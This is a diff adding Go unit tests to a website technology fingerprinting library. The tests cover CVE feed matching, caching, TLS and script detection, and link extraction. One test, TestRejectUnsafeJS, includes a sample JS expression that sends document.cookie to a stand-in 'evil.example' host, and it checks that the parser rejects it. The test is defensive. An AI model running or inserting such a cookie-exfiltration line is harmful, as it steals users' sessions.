@@ -1,14 +1,22 @@
 package core
 
 import (
+	"errors"
 	"fmt"
+	"io/ioutil"
 	"net/http"
 	"net/http/httptest"
+	"os"
+	"path/filepath"
 	"strings"
+	"sync"
 	"testing"
+	"time"
 
 	"github.com/PuerkitoBio/goquery"
 	"github.com/stretchr/testify/assert"
+	"github.com/unstppbl/gowap/pkg/filehash"
+	"github.com/unstppbl/gowap/pkg/scraper"
 )
 
 func TestBadUrl(t *testing.T) {
@@ -49,6 +57,115 @@ func TestColly(t *testing.T) {
 	}
 }
 
+func TestVulnerabilities(t *testing.T) {
+	dir, err := ioutil.TempDir("", "gowap-core")
+	if !assert.NoError(t, err, "TempDir error") {
+		return
+	}
+	defer os.RemoveAll(dir)
+	feedPath := filepath.Join(dir, "feed.json")
+	err = ioutil.WriteFile(feedPath, []byte(`{"CVE_Items":[{"cve":{"CVE_data_meta":{"ID":"CVE-2020-11022"}},
+		"configurations":{"nodes":[{"cpe_match":[{"vulnerable":true,"cpe23Uri":"cpe:2.3:a:jquery:jquery:*:*:*:*:*:*:*:*","versionStartIncluding":"1.2","versionEndExcluding":"3.5.0"}]}]},
+		"impact":{"baseMetricV3":{"cvssV3":{"baseScore":6.1,"baseSeverity":"MEDIUM"}}}}]}`), 0644)
+	assert.NoError(t, err, "Feed write error")
+
+	ts := MockHTTP(`<html><head><script src="jquery-3.4.1.min.js"></script></head></html>`)
+	defer ts.Close()
+	config := NewConfig()
+	config.Scraper = "colly"
+	config.VulnFeedPath = feedPath
+	wapp, err := Init(config)
+	if assert.NoError(t, err, "GoWap Init error") {
+		res, err := wapp.Analyze(ts.URL)
+		if assert.NoError(t, err, "GoWap Analyze error") {
+			var output output
+			err = json.UnmarshalFromString(res.(string), &output)
+			if assert.NoError(t, err, "Unmarshal error") {
+				var expected technology
+				for _, v := range output.Technologies {
+					if v.Name == "jQuery" {
+						expected = v
+					}
+				}
+				if assert.Len(t, expected.Vulnerabilities, 1, "jQuery 3.4.1 should be vulnerable") {
+					assert.Equal(t, "CVE-2020-11022", expected.Vulnerabilities[0].ID)
+				}
+			}
+		}
+	}
+
+	config.VulnFeedPath = filepath.Join(dir, "doesnotexist.json")
+	_, err = Init(config)
+	assert.Error(t, err, "Missing vulnerability feed should throw an error")
+}
+
+func TestClose(t *testing.T) {
+	dir, err := ioutil.TempDir("", "gowap-history")
+	if !assert.NoError(t, err, "TempDir error") {
+		return
+	}
+	defer os.RemoveAll(dir)
+
+	ts := MockHTTP(`<html><head><script src="jquery-3.5.1.min.js"></script></head></html>`)
+	defer ts.Close()
+	config := NewConfig()
+	config.Scraper = "colly"
+	config.HistoryPath = dir + "/history.jsonl"
+	wapp, err := Init(config)
+	if assert.NoError(t, err, "GoWap Init error") {
+		_, err = wapp.Analyze(ts.URL)
+		assert.NoError(t, err, "GoWap Analyze error")
+		assert.NoError(t, wapp.Close(), "GoWap Close error")
+		_, err = wapp.History.Record(ts.URL, time.Now(), nil)
+		assert.Error(t, err, "History should be closed")
+	}
+}
+
+func TestCache(t *testing.T) {
+	dir, err := ioutil.TempDir("", "gowap-cache")
+	if !assert.NoError(t, err, "TempDir error") {
+		return
+	}
+	defer os.RemoveAll(dir)
+
+	ts := MockHTTP(`<html><head><script src="jquery-3.5.1.min.js"></script></head></html>`)
+	config := NewConfig()
+	config.Scraper = "colly"
+	config.CacheMode = scraper.CacheReadWrite
+	config.CacheDir = dir
+	wapp, err := Init(config)
+	if assert.NoError(t, err, "GoWap Init error") {
+		_, err := wapp.Analyze(ts.URL)
+		assert.NoError(t, err, "GoWap Analyze error")
+	}
+	// Site is down, the page should be replayed from the cache
+	ts.Close()
+	config.CacheMode = scraper.CacheReplay
+	wapp, err = Init(config)
+	if assert.NoError(t, err, "GoWap Init error") {
+		res, err := wapp.Analyze(ts.URL)
+		if assert.NoError(t, err, "GoWap Analyze error") {
+			var output output
+			err = json.UnmarshalFromString(res.(string), &output)
+			if assert.NoError(t, err, "Unmarshal error") {
+				var expected technology
+				for _, v := range output.Technologies {
+					if v.Name == "jQuery" {
+						expected = v
+					}
+				}
+				assert.Equal(t, "3.5.1", expected.Version, "We should find jQuery version 3.5.1 in cache")
+			}
+		}
+		_, err = wapp.Analyze(ts.URL + "/notcached")
+		assert.Error(t, err, "Page not in cache should throw an error")
+	}
+
+	config.CacheMode = "unknown"
+	_, err = Init(config)
+	assert.Error(t, err, "Unknown cache mode should throw an error")
+}
+
 func TestJSEval(t *testing.T) {
 	ts := MockHTTP(`<html><head></head><script>jQuery=[];jQuery.fn=[];jQuery.fn.jquery="1.11.3"</script></html>`)
 	defer ts.Close()
@@ -186,6 +303,8 @@ func TestMeta(t *testing.T) {
 
 func TestUrl(t *testing.T) {
 	config := NewConfig()
+	config.CacheMode = scraper.CacheReplay
+	config.CacheDir = "testdata/cache"
 	wapp, err := Init(config)
 	wapp.Config.TimeoutSeconds = 5
 	wapp.Config.LoadingTimeoutSeconds = 5
@@ -328,6 +447,328 @@ func TestParsePattern(t *testing.T) {
 	parsePatterns(patterns2)
 }
 
+func TestXHR(t *testing.T) {
+	config := NewConfig()
+	config.Scraper = "colly"
+	wapp, err := Init(config)
+	if assert.NoError(t, err, "GoWap Init error") {
+		detectedApp := &detected{Mu: new(sync.Mutex), Apps: make(map[string]*resultApp)}
+		hosts := []string{"cdn.example.com", "api2.amplitude.com"}
+		analyzeXHR(wapp.Apps["Amplitude"], hosts, detectedApp)
+		analyzeXHR(wapp.Apps["AppNexus"], hosts, detectedApp)
+		assert.Contains(t, detectedApp.Apps, "Amplitude", "Amplitude should be detected from its XHR host")
+		assert.NotContains(t, detectedApp.Apps, "AppNexus", "AppNexus should not be detected")
+	}
+}
+
+func TestScriptContents(t *testing.T) {
+	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case "/":
+			fmt.Fprint(w, `<html><head><script src="/static/app.3f2a.js"></script><script>window.Acme = {};</script></head></html>`)
+		case "/static/app.3f2a.js":
+			fmt.Fprint(w, `/*! Bundled Lib v2.1.0 */ var lib = {};`)
+		}
+	}))
+	defer ts.Close()
+	dir, err := ioutil.TempDir("", "gowap-scripts")
+	if !assert.NoError(t, err, "TempDir error") {
+		return
+	}
+	defer os.RemoveAll(dir)
+	technologies := filepath.Join(dir, "technologies.json")
+	err = ioutil.WriteFile(technologies, []byte(`{"categories":{"1":{"name":"CMS","priority":1}},"technologies":{
+		"Lib":{"cats":[1],"scriptSrc":"lib\\.js","scripts":"Bundled Lib v([\\d.]+)\\;version:\\1"},
+		"Acme":{"cats":[1],"scriptSrc":"acme\\.js","scripts":"window\\.Acme"},
+		"Legacy":{"cats":[1],"scripts":"app\\.[0-9a-f]+\\.js"}}}`), 0644)
+	if !assert.NoError(t, err, "WriteFile error") {
+		return
+	}
+
+	config := NewConfig()
+	config.Scraper = "colly"
+	config.AppsJSONPath = technologies
+	config.FetchScripts = true
+	config.DNSDisabled = true
+	wapp, err := Init(config)
+	if !assert.NoError(t, err, "GoWap Init error") {
+		return
+	}
+	assert.Equal(t, "lib\\.js", wapp.Apps["Lib"].Scripts, "scriptSrc should match the URLs")
+	res, err := wapp.Analyze(ts.URL)
+	if assert.NoError(t, err, "GoWap Analyze error") {
+		var output output
+		err = json.UnmarshalFromString(res.(string), &output)
+		if assert.NoError(t, err, "Unmarshal error") {
+			versions := make(map[string]string)
+			for _, v := range output.Technologies {
+				versions[v.Name] = v.Version
+			}
+			assert.Equal(t, map[string]string{"Lib": "2.1.0", "Acme": "", "Legacy": ""}, versions)
+		}
+	}
+
+	err = ioutil.WriteFile(technologies, []byte(`{"categories":{"1":{"name":"CMS","priority":1}},"technologies":{
+		"Legacy":{"cats":[1],"scripts":"app\\.[0-9a-f]+\\.js"}}}`), 0644)
+	if !assert.NoError(t, err, "WriteFile error") {
+		return
+	}
+	wapp, err = Init(config)
+	if assert.NoError(t, err, "GoWap Init error") {
+		assert.Nil(t, wapp.Scraper.(*scraper.CollyScraper).ScriptLoader, "Scripts shouldn't be downloaded without script contents rules")
+	}
+}
+
+func TestBundledScriptContents(t *testing.T) {
+	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case "/":
+			fmt.Fprint(w, `<html><head><script src="/static/vendor.8c1e.js"></script></head></html>`)
+		case "/static/vendor.8c1e.js":
+			fmt.Fprint(w, `/*! jQuery v3.6.0 | (c) OpenJS Foundation and other contributors | jquery.org/license */ !function(e,t){}`)
+		}
+	}))
+	defer ts.Close()
+
+	config := NewConfig()
+	config.Scraper = "colly"
+	config.FetchScripts = true
+	config.DNSDisabled = true
+	wapp, err := Init(config)
+	if !assert.NoError(t, err, "GoWap Init error") {
+		return
+	}
+	res, err := wapp.Analyze(ts.URL)
+	if assert.NoError(t, err, "GoWap Analyze error") {
+		var output output
+		err = json.UnmarshalFromString(res.(string), &output)
+		if assert.NoError(t, err, "Unmarshal error") {
+			versions := make(map[string]string)
+			for _, v := range output.Technologies {
+				versions[v.Name] = v.Version
+			}
+			assert.Equal(t, "3.6.0", versions["jQuery"], "The included technologies should match the contents of bundled scripts")
+		}
+	}
+}
+
+func TestAnalyzeJS(t *testing.T) {
+	config := NewConfig()
+	config.Scraper = "colly"
+	wapp, err := Init(config)
+	if assert.NoError(t, err, "GoWap Init error") {
+		assert.Contains(t, wapp.jsProperties, "jQuery.fn.jquery", "JS properties should be collected")
+		assert.IsIncreasing(t, wapp.jsProperties, "JS properties should be sorted and unique")
+
+		detectedApp := &detected{Mu: new(sync.Mutex), Apps: make(map[string]*resultApp)}
+		values := map[string]scraper.JSValue{"jQuery.fn.jquery": {Type: "string", Value: "3.5.1"}}
+		analyzeJS(wapp.Apps["jQuery"], values, detectedApp)
+		analyzeJS(wapp.Apps["React"], values, detectedApp)
+		if assert.Contains(t, detectedApp.Apps, "jQuery") {
+			assert.Equal(t, "3.5.1", detectedApp.Apps["jQuery"].technology.Version)
+		}
+		assert.NotContains(t, detectedApp.Apps, "React", "Undefined properties should not match")
+	}
+}
+
+func TestEscalate(t *testing.T) {
+	config := NewConfig()
+	config.Scraper = "colly"
+	wapp, err := Init(config)
+	if !assert.NoError(t, err, "GoWap Init error") {
+		return
+	}
+	technologies := []byte(`{"categories":{"1":{"name":"CMS","priority":1}},"technologies":{
+		"Lib":{"cats":[1],"scriptSrc":"lib\\.js","js":{"Lib.version":"([\\d.]+)\\;version:\\1"}},
+		"Versioned":{"cats":[1],"scriptSrc":"versioned-([\\d.]+)\\.js\\;version:\\1","js":{"Versioned.version":"([\\d.]+)\\;version:\\1"}},
+		"Widget":{"cats":[1],"html":"widget\\;confidence:50","dom":".widget"},
+		"Hint":{"cats":[1],"html":"hint\\;confidence:50","js":{"Hint":"\\;confidence:50"}},
+		"Hashed":{"cats":[1],"scriptSrc":"hashed\\.js","js":{"Hashed.version":"([\\d.]+)\\;version:\\1"}},
+		"Static":{"cats":[1],"html":"static"}}}`)
+	if !assert.NoError(t, parseTechnologiesFile(&technologies, wapp), "Technologies parsing error") {
+		return
+	}
+	page := func(html string, scripts ...string) *scraper.ScrapedData {
+		return &scraper.ScrapedData{URLs: scraper.ScrapedURL{URL: "https://example.com/", Status: 200}, HTML: html, Scripts: scripts}
+	}
+	assert.Equal(t, "", wapp.escalate(page("static")), "Technologies without js nor dom rules should not escalate")
+	assert.Equal(t, "", wapp.escalate(page("", "/versioned-1.2.js")), "Versions already found should not escalate")
+	assert.Equal(t, scraper.EscalationTechnologies, wapp.escalate(page("", "/lib.js")), "JS rules could find the version")
+	assert.Equal(t, scraper.EscalationTechnologies, wapp.escalate(page("widget")), "DOM rules could confirm the technology")
+	assert.Equal(t, "", wapp.escalate(page("hint")), "JS rules giving no more confidence should not escalate")
+	wapp.FileHashes = filehash.NewDatabase()
+	wapp.FileHashes.Add("Hashed", "/hashed.js", "abc", "1.0")
+	assert.Equal(t, "", wapp.escalate(page("", "/hashed.js")), "File hashes could find the version")
+
+	static := page("static")
+	wapp.escalate(static)
+	_, stored := wapp.staticAnalyses.Load(static)
+	assert.True(t, stored, "The analysis of the pages kept static should be kept")
+	wapp.Scraper = &staticPage{page: static}
+	static.HTML = ""
+	detectedApplications := &detected{new(sync.Mutex), make(map[string]*resultApp)}
+	_, _, err = analyzePage(static.URLs.URL, wapp, detectedApplications)
+	if assert.NoError(t, err) {
+		assert.Contains(t, detectedApplications.Apps, "Static", "analyzePage should reuse the analysis of escalate")
+	}
+	_, stored = wapp.staticAnalyses.Load(static)
+	assert.False(t, stored, "The reused analysis should be forgotten")
+}
+
+// staticPage is a scraper returning the same page
+type staticPage struct {
+	renderer
+	page *scraper.ScrapedData
+}
+
+func (s *staticPage) CanRenderPage() bool { return false }
+func (s *staticPage) Scrape(paramURL string) (*scraper.ScrapedData, error) {
+	return s.page, nil
+}
+
+// renderer is a browser scraper returning the HTML of the rendered pages
+type renderer struct {
+	inits int
+}
+
+func (r *renderer) Init() error         { r.inits++; return nil }
+func (r *renderer) CanRenderPage() bool { return true }
+func (r *renderer) SetDepth(depth int)  {}
+func (r *renderer) Close() error        { return nil }
+func (r *renderer) Scrape(paramURL string) (*scraper.ScrapedData, error) {
+	return &scraper.ScrapedData{URLs: scraper.ScrapedURL{URL: paramURL, Status: 200}, HTML: "<html><body>rendered</body></html>"}, nil
+}
+func (r *renderer) EvalJS(jsProp string) (*string, error) {
+	return nil, errors.New("UndefinedProperty")
+}
+func (r *renderer) EvalJSProperties(jsProps []string) (map[string]scraper.JSValue, error) {
+	return map[string]scraper.JSValue{}, nil
+}
+
+func TestHybridStats(t *testing.T) {
+	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path == "/spa" {
+			fmt.Fprint(w, `<html><body><div id="root"></div><footer>Loading</footer></body></html>`)
+		} else {
+			fmt.Fprint(w, `<html><body><a href="/spa">app</a></body></html>`)
+		}
+	}))
+	defer ts.Close()
+	config := NewConfig()
+	config.Scraper = "hybrid"
+	config.MaxDepth = 1
+	config.MsDelayBetweenRequests = 0
+	config.RobotsMode = "ignore"
+	config.DNSDisabled = true
+	wapp, err := Init(config)
+	if !assert.NoError(t, err, "GoWap Init error") {
+		return
+	}
+	browser := &renderer{}
+	wapp.Scraper.(*scraper.HybridScraper).Browser = browser
+	for i := 0; i < 2; i++ {
+		res, err := wapp.Analyze(ts.URL)
+		if assert.NoError(t, err, "GoWap Analyze error") {
+			var output output
+			err = json.UnmarshalFromString(res.(string), &output)
+			if assert.NoError(t, err, "Unmarshal error") {
+				assert.Equal(t, &scraper.HybridStats{Pages: 2, Escalated: 1, Reasons: map[string]int{scraper.EscalationSPAMarkers: 1}},
+					output.Escalation, "The output should hold the stats of the scan")
+			}
+		}
+	}
+	stats, ok := wapp.HybridStats()
+	assert.True(t, ok)
+	assert.Equal(t, scraper.HybridStats{Pages: 4, Escalated: 2, Reasons: map[string]int{scraper.EscalationSPAMarkers: 2}}, stats)
+	assert.Equal(t, 1, browser.inits, "The browser should be launched on the first rendered page")
+	assert.NoError(t, wapp.Close())
+
+	config.Scraper = "colly"
+	wapp, err = Init(config)
+	if assert.NoError(t, err, "GoWap Init error") {
+		_, ok = wapp.HybridStats()
+		assert.False(t, ok, "Only the hybrid scraper has stats")
+	}
+}
+
+// initRenderer is the scraper registered as "test-renderer"
+var initRenderer = &renderer{}
+
+func init() {
+	scraper.Register("test-renderer", func(options *scraper.Options) (scraper.Scraper, error) {
+		return initRenderer, nil
+	})
+}
+
+func TestInitDataFiles(t *testing.T) {
+	initRenderer.inits = 0
+	dir, err := ioutil.TempDir("", "gowap-init")
+	if !assert.NoError(t, err, "TempDir error") {
+		return
+	}
+	defer os.RemoveAll(dir)
+	for _, setMissing := range []func(config *Config){
+		func(config *Config) { config.VulnFeedPath = filepath.Join(dir, "missing.json") },
+		func(config *Config) { config.FileHashesPath = filepath.Join(dir, "missing.json") },
+		func(config *Config) { config.HistoryPath = filepath.Join(dir, "missing", "history.jsonl") },
+	} {
+		config := NewConfig()
+		config.Scraper = "test-renderer"
+		config.DNSDisabled = true
+		setMissing(config)
+		_, err := Init(config)
+		assert.Error(t, err, "Missing data files should fail Init")
+	}
+	assert.Equal(t, 0, initRenderer.inits, "The scraper shouldn't be started when data files are missing")
+}
+
+func TestTLS(t *testing.T) {
+	technologies := []byte(`{"categories":{"1":{"name":"PaaS","priority":1}},"technologies":{
+		"Heroku":{"cats":[1],"tls":{"san":"\\.herokuapp\\.com$"}},
+		"Let's Encrypt":{"cats":[1],"tls":{"issuer":"O=Let's Encrypt"}},
+		"HTTP/2":{"cats":[1],"tls":{"alpn":"^h2$"}},
+		"Legacy TLS":{"cats":[1],"tls":{"version":"TLS 1\\.([01])\\;version:1.\\1"}},
+		"Self-signed":{"cats":[1],"tls":{"subject":"O=Acme Co"}}}}`)
+	wapp := &Wappalyzer{Config: NewConfig()}
+	if !assert.NoError(t, parseTechnologiesFile(&technologies, wapp), "Technologies parsing error") {
+		return
+	}
+	scrapedTLS := &scraper.ScrapedTLS{
+		Version:     "TLS 1.0",
+		CipherSuite: "TLS_ECDHE_RSA_WITH_AES_128_CBC_SHA",
+		Certificates: []scraper.ScrapedCertificate{
+			{Subject: "CN=*.herokuapp.com", Issuer: "CN=R3,O=Let's Encrypt,C=US", SANs: []string{"herokuapp.com", "*.herokuapp.com"}},
+			{Subject: "CN=R3,O=Let's Encrypt,C=US", Issuer: "CN=ISRG Root X1,O=Internet Security Research Group,C=US"},
+		},
+	}
+	detectedApp := &detected{Mu: new(sync.Mutex), Apps: make(map[string]*resultApp)}
+	for _, app := range wapp.Apps {
+		analyzeTLS(app, scrapedTLS, detectedApp)
+	}
+	versions := make(map[string]string)
+	for name, app := range detectedApp.Apps {
+		versions[name] = app.technology.Version
+	}
+	assert.Equal(t, map[string]string{"Heroku": "", "Let's Encrypt": "", "Legacy TLS": "1.0"}, versions)
+}
+
+func TestRejectUnsafeJS(t *testing.T) {
+	config := NewConfig()
+	config.Scraper = "colly"
+	wapp, err := Init(config)
+	if !assert.NoError(t, err, "GoWap Init error") {
+		return
+	}
+	assert.NotContains(t, wapp.jsProperties, "ScrollReveal().version", "Calls should be rejected")
+	assert.Contains(t, wapp.jsProperties, "s_c_il.0._c")
+
+	technologies := []byte(`{"categories":{"1":{"name":"CMS","priority":1}},"technologies":{
+		"Evil":{"cats":[1],"js":{"fetch('https://evil.example/'+document.cookie)":"","Evil.version":""}}}}`)
+	if assert.NoError(t, parseTechnologiesFile(&technologies, wapp), "Technologies parsing error") {
+		assert.Equal(t, []string{"Evil.version"}, wapp.jsProperties)
+	}
+}
+
 func TestAnalyseDom(t *testing.T) {
 	app := &application{}
 	godoc := &goquery.Document{}
@@ -344,6 +785,8 @@ func TestRecursivity(t *testing.T) {
 	config.MaxDepth = 1
 	config.MaxVisitedLinks = 3
 	config.Scraper = "colly"
+	config.CacheMode = scraper.CacheReplay
+	config.CacheDir = "testdata/cache"
 	wapp, err := Init(config)
 	if assert.NoError(t, err, "GoWap Init error") {
 		res, err := wapp.Analyze(url)
@@ -401,7 +844,84 @@ func Test_getLinksSlice(t *testing.T) {
 					return doc
 				}(),
 			},
-			want: &map[string]struct{}{"https://www.qwerty.com/index.php": {}},
+			want: &map[string]struct{}{"https://www.qwerty.com/index.php?x=1&y=2": {}},
+		},
+		{
+			name: "relative and external links",
+			args: args{
+				currentURL: "https://www.qwerty.com/blog/index.php",
+				doc: func() *goquery.Document {
+					doc, _ := goquery.NewDocumentFromReader(
+						strings.NewReader(`<html><body><a href="post-1#comments" /><a href="//cdn.qwerty.com/" /><a href="mailto:me@qwerty.com" /></body></html>`),
+					)
+					return doc
+				}(),
+			},
+			want: &map[string]struct{}{"https://www.qwerty.com/blog/post-1": {}, "https://cdn.qwerty.com": {}},
+		},
+		{
+			name: "base href",
+			args: args{
+				currentURL: "https://www.qwerty.com/blog/index.php",
+				doc: func() *goquery.Document {
+					doc, _ := goquery.NewDocumentFromReader(
+						strings.NewReader(`<html><head><base href="https://static.qwerty.com:8080/v2/"></head><body><a href="docs/">docs</a><a href="/">home</a></body></html>`),
+					)
+					return doc
+				}(),
+			},
+			want: &map[string]struct{}{"https://static.qwerty.com:8080/v2/docs": {}, "https://static.qwerty.com:8080": {}},
+		},
+		{
+			name: "head links, frames, forms and refresh",
+			args: args{
+				currentURL: "http://www.qwerty.com:80/a/",
+				doc: func() *goquery.Document {
+					doc, _ := goquery.NewDocumentFromReader(
+						strings.NewReader(`<html><head>
+						<link rel="canonical" href="http://WWW.qwerty.com/a/index.html">
+						<link rel="alternate" hreflang="fr" href="/fr/a">
+						<link rel="Next" href="?page=2&amp;sort=asc">
+						<link rel="stylesheet" href="/style.css">
+						<link rel="icon" href="/favicon.ico">
+						<meta http-equiv="Refresh" content="5; URL='/moved'">
+						<meta http-equiv="refresh" content="30">
+						</head><body>
+						<map><area href="/area"></map>
+						<iframe src="//www.qwerty.com:8080/embed"></iframe>
+						<form action="/search"></form>
+						<form method="POST" action="/login"></form>
+						<a href="javascript:void(0)">js</a>
+						<a href="tel:+33123456789">phone</a>
+						<a href="#top">top</a>
+						</body></html>`),
+					)
+					return doc
+				}(),
+			},
+			want: &map[string]struct{}{
+				"http://www.qwerty.com/a/index.html":      {},
+				"http://www.qwerty.com/fr/a":              {},
+				"http://www.qwerty.com/a?page=2&sort=asc": {},
+				"http://www.qwerty.com/moved":             {},
+				"http://www.qwerty.com/area":              {},
+				"http://www.qwerty.com:8080/embed":        {},
+				"http://www.qwerty.com/search":            {},
+				"http://www.qwerty.com/a":                 {},
+			},
+		},
+		{
+			name: "IDN host",
+			args: args{
+				currentURL: "https://bücher.example",
+				doc: func() *goquery.Document {
+					doc, _ := goquery.NewDocumentFromReader(
+						strings.NewReader(`<html><body><a href="https://BÜCHER.example/Neu%c3%a9">new</a></body></html>`),
+					)
+					return doc
+				}(),
+			},
+			want: &map[string]struct{}{"https://xn--bcher-kva.example/Neu%C3%A9": {}},
 		},
 	}
 	for _, tt := range tests {